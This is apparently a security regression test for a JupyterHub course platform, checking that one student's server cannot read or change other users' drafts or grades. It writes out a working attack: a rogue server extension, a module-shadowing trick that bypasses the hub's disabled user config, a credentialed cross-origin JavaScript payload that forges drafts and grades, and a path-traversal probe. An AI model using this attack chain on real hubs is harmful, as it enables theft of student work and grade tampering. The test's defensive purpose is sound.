"""Issue 22, hole 1: a student's own server process serves a script; classmates and teachers who
open its link while logged in must not have their drafts or the grading service read or changed
by it. Real hub, real users, real Chromium: every user and every service on an origin of its own
(<user>.localhost), the hub's pages only on the hub's origin, every Leerplein page unframeable.

The attacker, ozbob, does what the issue describes: a `~/.jupyter/jupyter_server_config.py`
that adds an unauthenticated handler serving HTML and JavaScript, then restarts his server
through the hub's API. The hub now tells his server to ignore that file, but a student can
still load code into her own server (here: a package in his home folder named like the one
`python -m` starts, which turns the config back on). So the test does not rely on that: the
script does run on his origin, and the test checks that nothing it tries reaches anyone else."""

from __future__ import annotations

import json
import os
import pwd
import re
import time
from pathlib import Path

import pytest
import requests

from conftest import ROOT, screenshot
from hub_helpers import (A, action, answer, as_user, leerplein, login, port_for, reachable_base, server_token,
                         service_url, start_course_hub, stop_course_hub, user_url)

ALICE, BOB, TEACHER = "ozalice", "ozbob", "ozdocent"
SUBMITTED = "INGELEVERD-GEHEIM-van-alice"
DRAFT = "CONCEPT-GEHEIM-van-alice"
FORGED = "VERVALST-DOOR-BOB"
pytestmark = [pytest.mark.slow, pytest.mark.browser,
              pytest.mark.skipif(os.geteuid() != 0, reason="the hub spawns system users: root only")]

# Bob's server extension: /user/ozbob/tip (the page) and /user/ozbob/tip/log (what it got).
EXTENSION = '''
import os
from tornado import web

HERE = os.path.dirname(os.path.abspath(__file__))


class Tip(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/html; charset=utf-8")
        self.finish(open(os.path.join(HERE, "tip.html"), encoding="utf-8").read())


class Log(web.RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def post(self):
        with open(os.path.join(HERE, "tip-log.jsonl"), "a", encoding="utf-8") as out:
            out.write(self.request.body.decode("utf-8", "replace").replace("\\n", " ") + "\\n")


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(".*$", [(base + "tip", Tip), (base + "tip/log", Log)])
'''

# (Setting ServerApp.jpserver_extensions would not do: the hub's student config replaces that.)
CONFIG = '''import os, sys
sys.path.insert(0, os.path.expanduser("~"))
import tipext
from jupyter_server.serverapp import ServerApp
_init_webapp = ServerApp.init_webapp


def init_webapp(self):
    _init_webapp(self)
    tipext._load_jupyter_server_extension(self)


ServerApp.init_webapp = init_webapp
'''

# A package in his home folder named like the one his server starts from: `python -m` looks in
# the current folder (his home) first. It turns his ~/.jupyter config back on (the setting comes
# as an environment variable and an argument, both his process's), then steps aside.
SHADOW = '''import os, sys
print("ozbob: leerplein shadowed", file=sys.stderr)
os.environ["JUPYTERHUB_DISABLE_USER_CONFIG"] = "0"
sys.argv[:] = [a for a in sys.argv if "disable-user-config" not in a and "disable_user_config" not in a]
home = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != home]
del sys.modules["leerplein"]
import leerplein as _real
sys.modules["leerplein"] = _real
'''

SCRIPT = r'''<!doctype html><html lang="nl"><head><meta charset="utf-8"><title>Handige tip</title></head>
<body><h1>Handige tip voor de opdracht</h1><pre id="uit">bezig...</pre>
<script>
const T = __TARGETS__;
const results = {};
function show() { document.getElementById("uit").textContent = JSON.stringify(results, null, 1); }
function sleep(ms) { return new Promise(r => setTimeout(r, ms)); }
async function frame(name, url, act) {
  const f = document.createElement("iframe");
  f.width = 500; f.height = 160; f.src = url;
  const loaded = new Promise(r => { f.onload = r; setTimeout(r, 15000); });
  document.body.appendChild(f);
  await loaded; await sleep(500);
  try {
    const d = f.contentDocument;
    if (!d || !d.body) throw new Error("geen toegang");
    if (d.location.href.startsWith("chrome-error") || d.body.innerText.length === 0) throw new Error("leeg of geblokkeerd");
    results[name] = "GELEZEN: " + await act(d, f);
  } catch (e) { results[name] = "geblokkeerd: " + e; }
  show();
}
async function grab(name, url, opts) {
  try {
    const r = await fetch(url, Object.assign({credentials: "include"}, opts || {}));
    results[name] = "GELEZEN " + r.status + ": " + (await r.text()).slice(0, 3000);
  } catch (e) { results[name] = "geblokkeerd: " + e; }
  show();
}
async function fillStudentView(d, f) {
  const areas = [...d.querySelectorAll("textarea")];
  const text = areas.map(a => a.value).join(" | ");
  if (areas.length) {
    areas[0].value = "__FORGED__";
    const again = new Promise(r => { f.onload = r; setTimeout(r, 15000); });
    d.querySelector("button[value=opslaan]").click();
    await again;
  }
  return text;
}
async function gradeForm(d, f) {
  const text = [...d.querySelectorAll(".answer")].map(a => a.innerText).join(" | ");
  const form = d.querySelector("form");
  if (form) {
    form.querySelectorAll("fieldset").forEach(fs => { const r = fs.querySelector("input[type=radio]"); if (r) r.checked = true; });
    const again = new Promise(r => { f.onload = r; setTimeout(r, 15000); });
    form.querySelector("button[type=submit]").click();
    await again;
  }
  return text;
}
(async () => {
  await grab("hub-api-eigen-adres", "/hub/api/user");
  await grab("hub-api", T.hub + "/hub/api/user");
  await frame("hub-pagina-eigen-adres", "/hub/home", d => d.body.innerText.slice(0, 300));
  await frame("studentview", T.hub + "/hub/user-redirect/leerplein/opdracht/" + T.aid, fillStudentView);
  await grab("studentview-fetch", T.hub + "/hub/user-redirect/leerplein/opdracht/" + T.aid);
  for (const [i, url] of T.grading.entries()) {
    await frame("beoordelen-lezen-" + i, url + "/grade/" + T.aid + "/" + T.victim, d => d.body.innerText.slice(0, 3000));
    await frame("beoordelen-cijfer-" + i, url + "/grade/" + T.aid + "/" + T.attacker, gradeForm);
    await grab("beoordelen-fetch-" + i, url + "/grade/" + T.aid + "/" + T.victim);
  }
  await fetch("tip/log", {method: "POST", body: JSON.stringify(results)});
  document.title = "klaar";
})();
</script></body></html>'''


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    base = reachable_base(tmp_path_factory, "origins")
    # Bob's own code in his server process is the premise here: without the fork server his server
    # starts from his home folder and loads his extension (with it he would replace the server
    # from his kernel instead); what is tested is what that page can do to others.
    hub = start_course_hub(base, [TEACHER], [ALICE, BOB], port_for(7), "--no-fork-server")
    yield hub
    stop_course_hub(hub)


def bob_home() -> Path:
    return Path(pwd.getpwnam(BOB).pw_dir)


def draft_of_alice() -> str:
    return (Path(pwd.getpwnam(ALICE).pw_dir) / A / f"{A}.ipynb").read_text(encoding="utf-8")


def plant_the_tip(hub) -> str:
    """Bob, as himself: his extension, config and page, then a restart through the hub's API."""
    targets = {"hub": hub["url"], "aid": A, "victim": ALICE, "attacker": BOB,
               "grading": sorted({f"{hub['url']}/services/leerplein-grading", service_url(hub, "leerplein-grading")})}
    files = {"tipext.py": EXTENSION, ".jupyter/jupyter_server_config.py": CONFIG, "leerplein/__init__.py": SHADOW,
             "tip.html": SCRIPT.replace("__TARGETS__", json.dumps(targets)).replace("__FORGED__", FORGED)}
    for name, text in files.items():
        written = as_user(BOB, "python3", "-c", "import os,sys; p=os.path.expanduser('~/'+sys.argv[1]); "
                          "os.makedirs(os.path.dirname(p), exist_ok=True); open(p,'w').write(sys.stdin.read())", name,
                          input=text)
        assert written.returncode == 0, written.stderr
    bob = server_token(hub, BOB)
    assert requests.delete(f"{hub['url']}/hub/api/users/{BOB}/server", headers=bob).status_code in (202, 204)
    for _ in range(120):
        if not requests.get(f"{hub['url']}/hub/api/users/{BOB}", headers=hub["admin"]).json().get("servers"):
            break
        time.sleep(0.5)
    assert requests.post(f"{hub['url']}/hub/api/users/{BOB}/server", headers=bob).status_code in (201, 202)
    link = f"{user_url(hub, BOB)}/tip"
    for _ in range(120):
        try:
            if requests.get(link, timeout=5, allow_redirects=False).status_code == 200:
                return link
        except requests.ConnectionError:
            pass
        time.sleep(0.5)
    log = (hub["state"] / "jupyterhub.log").read_text(errors="replace")
    pytest.fail(f"bob's tip page never came up at {link}: {sorted(p.name for p in bob_home().iterdir())} "
                f"{[line for line in log.splitlines() if 'ozbob:' in line or 'tipext' in line]}")


@pytest.fixture(scope="module")
def planted(hub):
    """Alice has handed in, then keeps a draft; Bob has handed in; the teacher has collected."""
    alice, bob = server_token(hub, ALICE), server_token(hub, BOB)
    for user, headers, text in ((ALICE, alice, SUBMITTED), (BOB, bob, "Reflectie van bob.")):
        action(hub, user, headers, "fetch")
        answer(hub, user, headers, text)
        action(hub, user, headers, "submit")
    answer(hub, ALICE, alice, DRAFT)
    for step in ("collect", "autograde"):
        done = leerplein("course", step, A, *hub["course"])
        assert done.returncode == 0, done.stdout + done.stderr
    return plant_the_tip(hub)


def open_as(browser, hub, user: str, link: str, shot: str) -> dict:
    context = browser.new_context(viewport={"width": 1100, "height": 900}, locale="nl-NL")
    page = context.new_page()
    try:
        page.goto(f"{hub['url']}/hub/login")
        page.fill("#username_input", user)
        page.fill("#password_input", hub["passwords"][user])
        page.press("#password_input", "Enter")
        page.wait_for_url(lambda url: "/hub/login" not in url, timeout=90_000)
        (bob_home() / "tip-log.jsonl").unlink(missing_ok=True)
        page.goto(link)
        deadline = time.monotonic() + 150
        while page.title() != "klaar" and time.monotonic() < deadline:
            time.sleep(0.5)
        screenshot(page, f"origins-{shot}")
        assert page.title() == "klaar", "the attacker's script did not finish: the test proves nothing"
    finally:
        context.close()
    log = (bob_home() / "tip-log.jsonl").read_text(encoding="utf-8").splitlines()
    return json.loads(log[-1])


def test_the_tip_page_is_served_on_bobs_own_origin(hub, planted):
    """The attack is real: his script runs, and on his origin only."""
    assert planted.startswith(user_url(hub, BOB))
    page = requests.get(planted, timeout=10)
    assert page.status_code == 200 and "Handige tip" in page.text


def test_a_classmate_opening_the_tip_keeps_her_draft(hub, planted, browser):
    before = draft_of_alice()
    assert DRAFT in before
    got = open_as(browser, hub, ALICE, planted, "klasgenoot")
    assert set(got) >= {"hub-api", "studentview", "studentview-fetch", "hub-api-eigen-adres"}, got
    read = [name for name, value in got.items() if value.startswith("GELEZEN") and (DRAFT in value or ALICE in value)]
    after = draft_of_alice()
    changed = FORGED in after or DRAFT not in after
    assert not changed and not read, f"bob's script changed alice's draft: {changed}; read it: {read}: {got}"


def test_a_teacher_opening_the_tip_grades_nothing_and_shows_nothing(hub, planted, browser):
    from leerplein.course.course import Course
    from leerplein.course.grading.rubric_grades import load_levels

    course = Course(ROOT, Path(hub["course"][1]), Path(hub["course"][3]))
    assert load_levels(course, A, BOB) == {}
    got = open_as(browser, hub, TEACHER, planted, "docent")
    read = [name for name, value in got.items() if value.startswith("GELEZEN") and (SUBMITTED in value or TEACHER in value)]
    graded = load_levels(course, A, BOB)
    assert not graded and not read, f"bob's script saved a grade: {graded}; read what the teacher sees: {read}: {got}"


def test_hub_pages_are_not_answered_on_a_students_origin(hub, planted):
    """Else Bob's page could show the real login form on his own origin and read the password."""
    for path in ("/hub/login", "/hub/home", "/hub/api/user", "/hub/token"):
        r = requests.get(f"{user_url(hub, BOB).rsplit('/user/', 1)[0]}{path}", allow_redirects=False, timeout=10)
        assert r.status_code in (301, 302) and r.headers["Location"].startswith(hub["url"] + path), (path, r.status_code)
    posted = requests.post(f"{user_url(hub, BOB).rsplit('/user/', 1)[0]}/hub/login", data={"username": ALICE},
                           allow_redirects=False, timeout=10)
    assert posted.status_code == 404


def test_old_service_links_lead_to_the_services_own_origin(hub):
    for name, path in (("peiling", "/"), ("leerplein-grading", "/"), ("leerkring", "/")):
        r = requests.get(f"{hub['url']}/services/{name}{path}?a=1", allow_redirects=False, timeout=10)
        r = requests.get(r.headers["Location"], allow_redirects=False, timeout=10) if r.status_code == 302 and \
            "/hub/services/" in r.headers["Location"] else r
        assert r.status_code == 302 and r.headers["Location"] == f"{service_url(hub, name)}{path}?a=1", (name, r.headers)
    assert requests.get(f"{hub['url']}/hub/services/onbekend/", allow_redirects=False, timeout=10).status_code == 404


def framing_headers_ok(r: requests.Response) -> bool:
    csp = r.headers.get("Content-Security-Policy", "")
    return "frame-ancestors 'none'" in csp and r.headers.get("X-Frame-Options") == "DENY"


def test_every_leerplein_page_refuses_to_be_framed(hub, planted):
    alice = server_token(hub, ALICE)
    view = f"{user_url(hub, ALICE)}/leerplein"
    pages = {f"{view}/": alice, f"{view}/opdracht/{A}": alice, f"{view}/voortgang": alice,
             f"{view}/opdracht/onbekend": alice, f"{view}/static/student.css": alice}
    for url, headers in pages.items():
        r = requests.get(url, headers=headers, timeout=30)
        assert framing_headers_ok(r), (url, r.status_code, r.headers)
    teacher = login(hub, TEACHER)
    for name, path in (("leerplein-grading", "/"), ("leerplein-grading", f"/grade/{A}/{BOB}"),
                       ("peiling", "/"), ("peiling", "/begeleider"), ("leerkring", "/")):
        r = teacher.get(f"{service_url(hub, name)}{path}", timeout=30)
        assert r.status_code == 200 and framing_headers_ok(r), (name, path, r.status_code, r.headers)


def test_the_book_sources_and_odd_paths_are_refused(hub, planted):
    """The MyST sources (with teachers' notes) are not for students; a NUL byte is no 500."""
    alice = server_token(hub, ALICE)
    boek = f"{user_url(hub, ALICE)}/leerplein/boek"
    sources = ROOT / "book" / "_build" / "html" / "_sources"
    if sources.is_dir():  # a built book: the probe asks for a file that is really there
        real = next(p for p in sources.rglob("*") if p.is_file())
        assert requests.get(f"{boek}/{real.relative_to(sources.parent).as_posix()}", headers=alice,
                            timeout=30).status_code == 404
        assert requests.get(f"{boek}/{real.relative_to(sources.parent.parent).as_posix()}".replace(
            "/html/", "/html/./"), headers=alice, timeout=30).status_code == 404
    for odd in ("%00", "_static/%00", "..%2F..%2Fetc%2Fpasswd", ".buildinfo", "_sources/", "_sources/index.md.txt"):
        r = requests.get(f"{boek}/{odd}", headers=alice, timeout=30)
        assert r.status_code in (400, 403, 404), (odd, r.status_code)
        assert "<html" in r.text and re.search(r"bestaat niet|mag je niet|niet gevonden|Er ging iets mis", r.text), odd
        assert framing_headers_ok(r), odd


def test_a_students_own_jupyter_config_is_ignored(hub, planted):
    """disable_user_config: without the package that turns it back on, his config does nothing."""
    as_user(BOB, "rm", "-rf", str(bob_home() / "leerplein"))
    bob = server_token(hub, BOB)
    requests.delete(f"{hub['url']}/hub/api/users/{BOB}/server", headers=bob)
    for _ in range(120):
        if not requests.get(f"{hub['url']}/hub/api/users/{BOB}", headers=hub["admin"]).json().get("servers"):
            break
        time.sleep(0.5)
    bob = server_token(hub, BOB)
    assert requests.get(f"{user_url(hub, BOB)}/api/status", headers=bob, timeout=30).status_code == 200
    assert requests.get(f"{user_url(hub, BOB)}/tip", timeout=30).status_code != 200
